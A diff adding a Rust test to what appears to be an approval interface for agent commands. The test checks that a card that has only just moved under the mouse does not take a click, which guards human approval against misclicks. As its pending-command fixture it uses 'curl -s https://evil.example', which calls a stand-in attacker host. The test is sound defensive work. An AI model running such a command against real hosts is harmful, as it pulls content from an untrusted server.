@@ -118,6 +118,45 @@ fn what_is_not_on_the_screen_is_not_approved() {
     assert_eq!(browser.act(&json!({"do": "errors", "tab": "a"})), json!([]));
 }
 
+/// What takes the place of another card is not what was pressed.
+#[test]
+fn a_card_that_has_just_moved_takes_no_click() {
+    let (site, _host) = site("");
+    let mut browser = Browser::start();
+    browser.open("a", &link(&site));
+    let first = site.check_later(ASKED);
+    let first_id = site.held(ASKED);
+    let second = site.check_later("curl -s https://evil.example");
+    let id = site.held("curl -s https://evil.example");
+    browser.wait("a", "document.querySelectorAll('.card').length === 2");
+    settles();
+    // The first card ends and gets smaller, and the second one comes up under the mouse, which is pressed then.
+    let press = format!(
+        "new Promise((done) => {{
+            const watch = new MutationObserver(() => {{
+                if (!document.querySelector('.card.over')) return;
+                watch.disconnect();
+                {}.querySelector('.approve').click();
+                setTimeout(() => done(document.getElementById('said').textContent), 50);
+            }});
+            watch.observe(document.getElementById('cards'), {{ childList: true, subtree: true }});
+        }})",
+        card(&id)
+    );
+    let said = std::thread::scope(|scope| {
+        let pressed = scope.spawn(|| browser.read("a", &press));
+        pause(Duration::from_millis(700));
+        site.cli(["deny", &first_id]).expect(0);
+        pressed.join().unwrap()
+    });
+    assert!(said.as_str().unwrap().contains("only just moved"), "{said}");
+    first.join().unwrap().expect(2);
+    assert!(!second.is_finished());
+    settles();
+    browser.click("a", &format!(".card[data-id=\"{id}\"] .approve"));
+    second.join().unwrap().expect(0);
+}
+
 /// The field for a reason is nobody's to take away: what is typed there is never taken for answers, whatever the agent does meanwhile.
 #[test]
 fn what_is_typed_is_no_answer() {
